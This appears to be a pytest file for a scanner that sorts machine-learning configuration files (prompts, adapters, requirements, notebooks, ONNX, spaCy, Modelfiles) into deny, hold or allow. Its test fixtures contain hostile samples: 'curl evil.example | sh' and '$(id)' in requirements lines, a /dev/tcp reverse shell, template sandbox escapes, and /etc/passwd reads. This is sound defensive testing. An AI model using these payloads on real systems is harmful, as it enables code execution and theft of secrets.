"""Configuration that names, evaluates, formats, installs or reads: dangerous and honest forms."""

import json
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from modelkeep.core.verdict import Decision, judged
from modelkeep.scan.rules import findings_of
from modelkeep.scan.settings import ScanSettings

DENY, HOLD, ALLOW = Decision.DENY, Decision.HOLD, Decision.ALLOW


def findings(name, content):
    raw = content.encode() if isinstance(content, str) else json.dumps(content).encode()
    return findings_of(name, raw, ScanSettings())


def decision(name, content):
    return judged(findings(name, content)).decision


def secret(slot, name):
    return {
        "lc": 1, "type": "constructor", "id": ["langchain", "llms", "openai", "OpenAI"],
        "kwargs": {slot: {"lc": 1, "type": "secret", "id": [name]}},
    }  # fmt: skip


@pytest.mark.parametrize(
    ("slot", "name", "wanted"),
    [
        ("content", "AWS_SECRET_ACCESS_KEY", DENY),
        ("content", "OPENAI_API_KEY", DENY),
        ("template", "OPENAI_API_KEY", DENY),
        ("base_url", "OPENAI_API_KEY", DENY),
        ("openai_api_key", "AWS_SECRET_ACCESS_KEY", HOLD),
        ("openai_api_key", "DATABASE_URL", HOLD),
        ("openai_api_key", "OPENAI_API_KEY", ALLOW),
        ("huggingfacehub_api_token", "HUGGINGFACEHUB_API_TOKEN", ALLOW),
        ("aws_secret_access_key", "AWS_SECRET_ACCESS_KEY", ALLOW),
        ("api_key", "GROQ_API_KEY", ALLOW),
    ],
)
def test_a_secret_belongs_where_a_model_takes_its_key(slot, name, wanted):
    assert decision("chain.json", secret(slot, name)) is wanted


@pytest.mark.parametrize(
    ("prompt", "wanted"),
    [
        ({"template": "{x.__init__.__globals__[os].environ}"}, DENY),
        ({"template": "{x:{y.__class__}}"}, DENY),
        ({"template": "{x[__class__]}", "template_format": "f-string"}, DENY),
        ({"template": "{{x.__class__}}", "template_format": "mustache"}, DENY),
        ({"template": "{{ x.__class__ }}", "template_format": "jinja2"}, DENY),
        ({"prefix": "{x._private}", "_type": "few_shot"}, DENY),
        ({"template": "{user.name}"}, HOLD),
        ({"template": "{rows[0]}"}, HOLD),
        ({"template": "Hello {name}, {age:>3} {total:.2f}"}, ALLOW),
        ({"template": 'Answer as JSON: {{"name": "{name}", "tags": [1, 2]}}'}, ALLOW),
        ({"template": "{{#all}}{{name.first}}{{/all}}", "template_format": "mustache"}, ALLOW),
        ({"template": "Hi {{ name }}", "template_format": "jinja2"}, ALLOW),
        ({"template": "an odd } brace"}, ALLOW),
    ],
)  # fmt: skip
def test_a_prompt_formats_names_and_follows_nothing(prompt, wanted):
    document = {"_type": "prompt", "input_variables": ["x"], **prompt}
    assert decision("prompt.json", document) is wanted
    named = {key: value for key, value in document.items() if key != "_type"}
    assert decision("chain.json", {"lc": 1, "kwargs": named}) is wanted


@pytest.mark.parametrize(
    ("library", "name", "wanted"),
    [
        ("os", "system", DENY),
        ("subprocess", "Popen", DENY),
        ("transformers.models.llama.os", "system", DENY),
        ("transformers_modules.someone.modeling", "Net", HOLD),
        ("transformers.models.llama.modeling_llama", "LlamaForCausalLM", ALLOW),
        ("diffusers.models.unet", "UNet2DConditionModel", ALLOW),
        (None, None, ALLOW),
    ],
)
def test_an_adapter_names_a_class_of_a_model(library, name, wanted):
    mapping = {"base_model_class": name, "parent_library": library}
    document = {"peft_type": "LORA", "auto_mapping": mapping}
    assert decision("adapter_config.json", document) is wanted


@pytest.mark.parametrize(
    ("layer", "wanted"),
    [
        ("__import__('os').system('true')", DENY),
        ("eval('1')", DENY),
        ("open('/etc/passwd').read()", DENY),
        ("().__class__.__base__", DENY),
        ("getattr(nn, 'x')", DENY),
        ("torch.load('weights')", DENY),
        ("[c for c in os.listdir('.')]", DENY),
        ("build(3)", HOLD),
        ("Conv", ALLOW),
        ("nn.ConvTranspose2d", ALLOW),
        ("nn.SiLU()", ALLOW),
        ("[nc, anchors]", ALLOW),
        ("None", ALLOW),
    ],
)
def test_layers_of_yolo_are_names(layer, wanted):
    text = json.dumps(layer)
    yaml = f"nc: 80\nbackbone:\n  - [-1, 1, {text}, [64, 6]]\nhead:\n  - [-1, 1, Detect, [nc]]\n"
    assert decision("yolo.yaml", yaml) is wanted


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("__import__('os').system('true')", HOLD),
        ("lambda: eval('1')", HOLD),
        ("().__class__.__base__.__subclasses__()", HOLD),
        ("open(x)", ALLOW),
        ("A sentence (with a bracket) about os.system", ALLOW),
        ("def f():\n    return eval('1')\n", ALLOW),
        ("exec()", ALLOW),
        ("{op.__name__}({left})", ALLOW),
        ("foo(1)", ALLOW),
    ],
)
def test_an_expression_in_other_configuration_is_held_where_it_would_run_something(text, wanted):
    assert decision("config.json", {"a": [[{"b": text}], text]}) is wanted


def skops(loader, dotted, attrs=()):
    module, _, name = dotted.rpartition(".")
    nodes = [{"__loader__": "JsonNode", "__module__": "builtins", "__class__": "str",
              "content": json.dumps(each), "is_json": True} for each in attrs]  # fmt: skip
    held = {"__loader__": "TupleNode", "__module__": "builtins", "__class__": "tuple",
            "content": nodes}  # fmt: skip
    return {"__loader__": loader, "__module__": module, "__class__": name, "attrs": held}


@pytest.mark.parametrize(
    ("node", "wanted"),
    [
        (skops("OperatorFuncNode", "operator.call", ["x"]), DENY),
        (skops("OperatorFuncNode", "operator.setitem", ["x"]), DENY),
        (skops("OperatorFuncNode", "operator.methodcaller", ["__reduce__"]), DENY),
        (skops("OperatorFuncNode", "operator.methodcaller", ["to_pickle", "x"]), DENY),
        (skops("OperatorFuncNode", "operator.attrgetter", ["a.__class__"]), DENY),
        (skops("FunctionNode", "numpy.savetxt"), DENY),
        (skops("FunctionNode", "numpy.load"), DENY),
        (skops("FunctionNode", "numpy.lib.npyio.genfromtxt"), DENY),
        (skops("FunctionNode", "scipy.io.loadmat"), DENY),
        (skops("FunctionNode", "pandas.read_pickle"), DENY),
        (skops("FunctionNode", "sklearn.datasets.load_files"), DENY),
        (skops("LossNode", "numpy.savetxt"), DENY),
        (skops("FunctionNode", "sklearn.conftest.act"), HOLD),
        (skops("FunctionNode", "sklearn.datasets.fetch_openml"), DENY),
        ({"__loader__": "FunctionNode", "__module__": "numpy", "__class__": "exp",
          "content": {"module_path": "os", "function": "system"}}, DENY),
        (skops("OperatorFuncNode", "operator.methodcaller", ["to_numpy"]), HOLD),
        (skops("FunctionNode", "numpy.vectorize_all"), HOLD),
        (skops("OperatorFuncNode", "operator.itemgetter", [1]), ALLOW),
        (skops("FunctionNode", "numpy.log1p"), ALLOW),
        (skops("FunctionNode", "scipy.special.expit"), ALLOW),
        (skops("FunctionNode", "sklearn.feature_selection._univariate_selection.f_classif"), ALLOW),
        (skops("ObjectNode", "sklearn.svm._classes.SVC"), ALLOW),
    ],
)  # fmt: skip
def test_skops_names_functions_that_count(node, wanted):
    assert decision("schema.json", node) is wanted


LOCK = """\
# made by a lock tool
--index-url https://download.pytorch.org/whl/cpu
--extra-index-url=https://pypi.org/simple
-r base.txt
-c requirements/constraints.txt
--require-hashes
numpy==2.1.0 ; python_version >= "3.9" and (sys_platform == "linux" or extra == 'x') \\
    --hash=sha256:0000000000000000000000000000000000000000000000000000000000000000 \\
    --hash=sha256:1111111111111111111111111111111111111111111111111111111111111111
    # via scipy
torch[opt]>=2,<3  # the framework
torchvision @ https://download.pytorch.org/whl/cpu/torchvision-0.19.0%2Bcpu-cp312-cp312-linux.whl
certifi @ file:///croot/certifi_1700501669400/work/certifi
uvloop; platform_machine != 'x86_64'
"""


@pytest.mark.parametrize("name", ["requirements.txt", "dev-requirements.txt", "constraints.in",
                                  "requirements-gpu.txt", "requirements/base.txt"])  # fmt: skip
@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("--extra-index-url https://evil.example/simple", DENY),
        ("-i https://pypi.org@evil.example/simple", DENY),
        ("--find-links http://evil.example", DENY),
        ("-f https://storage.googleapis.com/jax-releases/../evil/", DENY),
        ("-f https://storage.googleapis.com/jax-evil/", DENY),
        ("--trusted-host evil.example", DENY),
        ("numpy; curl evil.example | sh", DENY),
        ("numpy $(id)", DENY),
        ("evil @ https://evil.example/${TOKEN}", DENY),
        ("-r ../../other.txt", DENY),
        ("-e -r x", DENY),
        ("# a comment\\\n--index-url https://evil.example", DENY),
        ("--extra-\\\nindex-url https://evil.example", DENY),
        ("evil @ https://evil.example/evil-1.0.tar.gz", HOLD),
        ("git+https://github.com/someone/own.git@main#egg=own&subdirectory=a", HOLD),
        ("./own-1.0-py3-none-any.whl", HOLD),
        ("-e .", HOLD),
        ("", ALLOW),
    ],
)
def test_a_list_of_requirements_names_packages_and_where_their_makers_publish(name, line, wanted):
    assert decision(name, LOCK + line + "\n") is wanted


def test_a_requirement_of_an_environment_is_judged_as_one_of_a_list():
    def environment(line):
        return {"dependencies": ["python=3.11", {"pip": [line]}]}

    assert decision("conda.yaml", environment("--extra-index-url https://evil.example")) is DENY
    known = "--extra-index-url https://download.pytorch.org/whl/cu121"
    assert decision("conda.yaml", environment(known)) is ALLOW
    assert decision("conda.yaml", environment("mlflow<3,>=2.9; python_version<'3.13'")) is ALLOW


SPACY = """\
[nlp]
lang = "en"
pipeline = [
    "tok2vec",
    ["x"]
]

[nlp.tokenizer]
@tokenizers = "spacy.Tokenizer.v1"

[training.optimizer]
@optimizers = "Adam.v1"

[corpora.train]
%s
path = ${paths.train}
"""


@pytest.mark.parametrize(
    ("option", "wanted"),
    [
        ('@readers = "srsly.read_pickle.v1"', DENY),
        ('@readers = "\\u0073rsly.read_pickle.v1"', DENY),
        ("@readers: os.system.v1", DENY),
        ('@readers =\n    "own.pickle.v1"', DENY),
        ('@readers = "someone.reader.v1"', HOLD),
        ('before = {"a": [1], "@callbacks": "evil.before.v1"}', HOLD),
        ('before = {"a": ${x.y}, "\\u0040callbacks": "evil.before.v1"}', HOLD),
        ('before = {"a":\n    [1],\n    "@callbacks": "evil.before.v1"}', HOLD),
        ("@readers = ${paths.reader}", HOLD),
        ('@readers = "spacy.Corpus.v1"', ALLOW),
        ('@schedules = "compounding.v1"', ALLOW),
        ('@architectures = "spacy-transformers.TransformerModel.v3"', ALLOW),
        ('@layers = "reduce_mean.v1"', ALLOW),
    ],
)
def test_configuration_of_spacy_names_functions_of_spacy(option, wanted):
    assert decision("config.cfg", SPACY % option) is wanted


@pytest.mark.parametrize(
    ("line", "wanted"),
    [
        ("ADAPTER ../../etc/passwd", HOLD),
        ("adapter /etc/passwd", HOLD),
        ('FROM "~/other.gguf"', HOLD),
        ("ADAPTER ./adapter.gguf", ALLOW),
        ("FROM llama3.2:1b", ALLOW),
        ("FROM /usr/share/ollama/.ollama/models/blobs/sha256-" + "0" * 64, ALLOW),
        ('SYSTEM """\nADAPTER /etc/passwd\n"""', ALLOW),
        ("# ADAPTER /etc/passwd", ALLOW),
    ],
)
def test_a_modelfile_takes_what_lies_beside_it(line, wanted):
    text = f'FROM ./m.gguf\nTEMPLATE """{{{{ .Prompt }}}}"""\n{line}\nPARAMETER temperature 1\n'
    assert decision("Modelfile", text) is wanted


@pytest.mark.parametrize(
    ("lines", "wanted"),
    [
        (["!curl https://evil.example/x | sh\n"], HOLD),
        (["%%bash\n", "wget -qO- https://evil.example | sudo bash\n"], HOLD),
        (["import base64\n", "exec(base64.b64decode('aW1wb3J0'))\n"], HOLD),
        (["!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"], HOLD),
        (["!pip install -q transformers\n", "import torch\n", "model.eval()\n"], ALLOW),
        (["!wget https://example.org/data.zip && unzip data.zip | head\n"], ALLOW),
    ],
)
def test_a_notebook_is_a_note_unless_it_runs_what_nobody_has_read(lines, wanted):
    cells = [
        {"cell_type": "markdown", "source": ["curl https://x | sh"]},
        {"cell_type": "code", "source": lines, "outputs": []},
    ]
    document = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    found = findings("demo.ipynb", document)
    assert judged(found).decision is wanted
    assert any(each.rule == "scan.config.notebook" for each in found)


PROSE = """\
ir_version: 8
graph {
  node { input: "x" output: "y" op_type: "%s" domain: "%s" }
  initializer < name: 'w' external_data { key: "loc" "ation" value: "%s" } >  # weights
}
opset_import { domain: "" version: 17 }
"""


@pytest.mark.parametrize(
    ("parts", "wanted"),
    [
        (("MatMul", "", "../../etc/passwd"), DENY),
        (("MatMul", "", "\\056\\x2e/secret"), DENY),
        (("PyOp", "ai.onnx.contrib", "w.bin"), DENY),
        (("Own", "com.someone", "w.bin"), HOLD),
        (("MatMul", "", "w.bin"), ALLOW),
        (("BertTokenizer", "ai.onnx.contrib", "w.bin"), ALLOW),
    ],
)
def test_onnx_as_text_is_judged_by_its_operators_and_files(parts, wanted):
    assert decision("model.onnx.txt", PROSE % parts) is wanted
    assert decision("model.textproto", PROSE % parts) is wanted


def test_onnx_as_text_is_known_in_one_line_too():
    line = " ".join((PROSE % ("MatMul", "", "/etc/passwd")).replace("# weights", "").split())
    assert decision("model.textproto", line) is DENY


def test_a_description_of_layers_is_judged_whatever_else_it_claims_to_be():
    text = "nbformat: 4\ncells: []\nnc: 1\nbackbone:\n  - [-1, 1, eval('1'), []]\n"
    assert decision("yolo.yaml", text) is DENY


def test_onnx_as_text_that_is_cut_short_is_held():
    assert decision("model.onnx.txt", (PROSE % ("MatMul", "", "w"))[:120]) is HOLD


def varint(value):
    return bytes([value & 127 | 128]) + varint(value >> 7) if value > 127 else bytes([value])


def message(*parts):
    """A protobuf message of (number, value); a number, bytes or text."""
    raw = b""
    for number, value in parts:
        if isinstance(value, int):
            raw += varint(number << 3) + varint(value)
        else:
            data = value.encode() if isinstance(value, str) else value
            raw += varint(number << 3 | 2) + varint(len(data)) + data
    return raw


def onnx(op_type, domain, attribute=None, metadata=None):
    attributes = []
    if attribute is not None:
        name, text = attribute
        attributes.append((5, message((1, name), (4, text), (20, 3))))
    node = message((1, "x"), (2, "y"), (4, op_type), *attributes, (7, domain))
    port = message((1, message((1, 8), (2, message((1, message((1, 1))))))))
    graph = message((1, node), (2, "g"), (11, message((1, "x"), (2, port))),
                    (12, message((1, "y"), (2, port))))  # fmt: skip
    opsets = [(8, message((1, each), (2, 1))) for each in dict.fromkeys(("", domain))]
    about = [(14, message((1, key), (2, value))) for key, value in (metadata or {}).items()]
    return message((1, 8), (7, graph), *opsets, *about)


@pytest.mark.parametrize(
    ("op_type", "attribute", "wanted"),
    [
        ("PyOp", None, DENY),
        ("PyCustomOpDef", None, DENY),
        ("OpenAIAudioToText", None, DENY),
        ("BertTokenizer", ("vocab_file", "/etc/passwd"), DENY),
        ("SentencepieceTokenizer", ("model_path", "../../secret"), DENY),
        ("SomeoneElses", None, HOLD),
        ("BertTokenizer", ("vocab_file", "/\n[CLS]\n../x\n"), ALLOW),
        ("BertTokenizer", ("vocab_file", "vocab.txt"), ALLOW),
        ("StringRegexReplace", ("pattern", "/etc"), ALLOW),
    ],
)
def test_operators_of_onnxruntime_extensions_are_known(op_type, attribute, wanted):
    raw = onnx(op_type, "ai.onnx.contrib", attribute)
    assert judged(findings_of("m.onnx", raw, ScanSettings())).decision is wanted


@pytest.mark.parametrize(
    ("template", "wanted"),
    [
        ("{{ ''.__class__.__mro__ }}", DENY),
        ("{% for m in messages %}{{ m['content'] }}{% endfor %}", ALLOW),
        ("x" * 8_000 + "{{ ''.__class__.__mro__ }}", DENY),
    ],
)
def test_a_template_is_judged_wherever_a_file_of_tensors_keeps_it(template, wanted):
    raw = onnx("Relu", "", metadata={"chat_template": template, "note": "{{"})
    assert judged(findings_of("m.onnx", raw, ScanSettings())).decision is wanted
    header = json.dumps({"__metadata__": {"format": "pt", "chat_template": template}}).encode()
    header += b" " * (-len(header) % 8)
    raw = len(header).to_bytes(8, "little") + header
    assert judged(findings_of("m.safetensors", raw, ScanSettings())).decision is wanted


@pytest.mark.parametrize(
    ("pairs", "wanted"),
    [
        ({"_target_": "torchvision.models.resnet18"}, ALLOW),
        ({"_target_": "torchvision.models.detection.fasterrcnn_resnet50_fpn"}, ALLOW),
        ({"_target_": "timm.create_model", "model_name": "vit_base_patch16_224"}, ALLOW),
        ({"_target_": "timm.create_model", "checkpoint_path": "/srv/evil.pt"}, HOLD),
        ({"_target_": "segmentation_models_pytorch.create_model"}, ALLOW),
        ({"_target_": "transformers.AutoModel.from_pretrained", "x": "bert-base"}, ALLOW),
        ({"_target_": "transformers.AutoModel.from_pretrained", "x": "../evil"}, HOLD),
        ({"_target_": "torchvision.models.resnet.load_state_dict_from_url"}, DENY),
        ({"_target_": "torchvision.models.os.system"}, DENY),
        ({"_target_": "torchvision.models._api.partial"}, HOLD),
        ({"_target_": "src.models.Net"}, HOLD),
        ({"target": "os.system", "params": {"command": "true"}}, DENY),
        ({"target": "os.abort"}, DENY),
        ({"target": "someone.models.Net", "params": {}}, HOLD),
        ({"target": "ldm.models.diffusion.ddpm.LatentDiffusion", "params": {}}, ALLOW),
        ({"target": "label"}, ALLOW),
        ({"in_features": 2, "activation_function": "os.abort"}, DENY),
        ({"in_features": 2, "activation_function": "torch.nn.modules.activation.Tanh"}, ALLOW),
        ({"activation_function": "gelu_new"}, ALLOW),
        ({"types": {"0": "own.Own"}, "structure": {}}, HOLD),
        ({"types": {"0": "sentence_transformers.models.Dense"}, "structure": {}}, ALLOW),
    ],
)  # fmt: skip
def test_a_name_in_configuration_builds_a_model_and_nothing_else(pairs, wanted):
    assert decision("config.json", {"model": pairs}) is wanted


NAMES = ("requirements.txt", "config.cfg", "Modelfile", "a.textproto", "yolo.yaml", "n.ipynb",
         "prompt.json")  # fmt: skip
PIECES = st.sampled_from(
    ["[a]\n", "@r = ", '"', "{", "}", "<", ">", ":", "=", "\\\n", "\n", "#", ";", " ", "-r ", "-e ",
     "https://", "FROM /", '"""', "ir_version: 8\n", "graph {", "key: 'location' value: '/x'",
     "nc: 1\n", "backbone: [[", "]]", "__import__('os')", "(", ")", "{x.", "!r", "${", "@readers",
     "python_version<", "or", "\\u0040", "\u2028", "\0", "\ud800",
     '{"cells": [], "nbformat": 4, "template": "']
)  # fmt: skip


@given(name=st.sampled_from(NAMES), text=st.one_of(st.text(), st.lists(PIECES).map("".join)))
@example(name="Modelfile", text="FROM " + "\n" * 3)
def test_no_text_makes_the_scanner_fail(name, text):
    found = findings_of(name, text.encode("utf-8", "surrogatepass"), ScanSettings())
    assert judged(found).decision in tuple(Decision)


@pytest.mark.parametrize(
    "piece",
    ["or", "and or ", "[", "{", "(", "{x", "[a]\n@b", '@a = "', '{"@a": ', "-r   ", "x ;",
     "#egg=a&", "a.b", "FROM /a", '"""', "graph {", "key: '", "\\", " ", "\t\n", "@", "a@ ", "{{x",
     "=", "__a", "f(", "nc("],
)  # fmt: skip
@pytest.mark.parametrize("name", ["requirements.txt", "config.cfg", "Modelfile", "a.txt"])
def test_no_text_takes_more_time_than_its_length_earns(name, piece):
    head = {
        "requirements.txt": "numpy; python_version < ",
        "config.cfg": "[a]\n@b = 1\nc = ",
        "Modelfile": "# a.b: c\nFROM a\nFROM ",
        "a.txt": 'ir_version: 8\ngraph {\n name: "',
    }[name]
    text = head + piece * (20_000 // len(piece)) + "$"
    began = time.process_time()
    findings_of(name, text.encode(), ScanSettings())
    assert time.process_time() - began < 1
